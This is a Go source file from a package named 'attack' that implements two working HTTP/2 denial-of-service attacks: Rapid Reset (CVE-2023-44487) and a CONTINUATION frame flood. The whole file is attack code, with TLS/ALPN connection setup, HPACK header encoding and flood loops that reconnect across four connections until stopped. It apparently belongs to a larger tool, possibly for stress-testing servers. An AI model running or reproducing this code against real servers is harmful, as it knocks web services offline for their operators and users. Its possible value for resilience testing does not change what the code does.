package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Dial opens an HTTP/2 connection over TLS (ALPN "h2") and sends the
// preface and empty settings; the target's frames are read and dropped by
// a goroutine until the connection closes. It returns nil when the target
// did not choose h2.
func h2Dial(ctx context.Context, env Env) (net.Conn, *http2.Framer, chan struct{}) {
	cfg := env.TLS.Clone()
	cfg.NextProtos = []string{"h2"}
	env.TLS = cfg
	nc, err := dial(ctx, env, true)
	if err != nil {
		return nil, nil, nil
	}
	if nc.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
		nc.Close()
		return nil, nil, nil
	}
	if _, err := io.WriteString(nc, http2.ClientPreface); err != nil {
		nc.Close()
		return nil, nil, nil
	}
	fr := http2.NewFramer(nc, nc)
	if err := fr.WriteSettings(); err != nil {
		nc.Close()
		return nil, nil, nil
	}
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		_, _ = io.Copy(io.Discard, nc)
	}()
	return nc, fr, drained
}

// requestBlock is the HPACK block of GET / on the target.
func requestBlock(extra ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "attack"}, {Name: ":path", Value: "/"},
	}, extra...) {
		_ = enc.WriteField(f)
	}
	return b.Bytes()
}

// h2Flood runs n clients, each sending on one HTTP/2 connection at a
// time until a send fails, then on a new one, until ctx ends; conn makes
// a connection's sender (its stream IDs are its own).
func h2Flood(ctx context.Context, env Env, n int, conn func() func(fr *http2.Framer) error) error {
	return flood(ctx, env, n, func(ctx context.Context, plain net.Conn) error {
		plain.Close() // flood's connection is plain: open an h2 one instead
		nc, fr, drained := h2Dial(ctx, env)
		if nc == nil {
			sleep(ctx, 50*time.Millisecond)
			return nil
		}
		stop := context.AfterFunc(ctx, func() { nc.Close() })
		defer stop()
		send := conn()
		for ctx.Err() == nil {
			if err := send(fr); err != nil {
				break
			}
		}
		nc.Close()
		<-drained
		return nil
	})
}

// rapidReset: streams opened and cancelled at once (CVE-2023-44487), each
// making the target start a request and drop it.
func rapidReset() Attack {
	block := requestBlock()
	return Attack{
		Name:  "rapid-reset",
		About: "4 HTTP/2 connections each opening streams of GET / and resetting them at once",
		TLS:   true,
		Run: func(ctx context.Context, env Env) error {
			return h2Flood(ctx, env, 4, func() func(*http2.Framer) error {
				id := uint32(1)
				return func(fr *http2.Framer) error {
					err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
					if err == nil {
						err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
					}
					id += 2
					return err
				}
			})
		},
	}
}

// continuationFlood: a stream's header block that never ends: HEADERS
// without END_HEADERS, then CONTINUATION frames of new fields, endlessly.
func continuationFlood() Attack {
	field := requestBlock(hpack.HeaderField{Name: "x-flood", Value: strings.Repeat("a", 1000)})
	return Attack{
		Name:  "continuation-flood",
		About: "4 HTTP/2 connections each sending a header block of endless CONTINUATION frames",
		TLS:   true,
		Run: func(ctx context.Context, env Env) error {
			return h2Flood(ctx, env, 4, func() func(*http2.Framer) error {
				started := false
				return func(fr *http2.Framer) error {
					if !started {
						started = true
						return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: field, EndStream: true})
					}
					return fr.WriteContinuation(1, false, field)
				}
			})
		},
	}
}
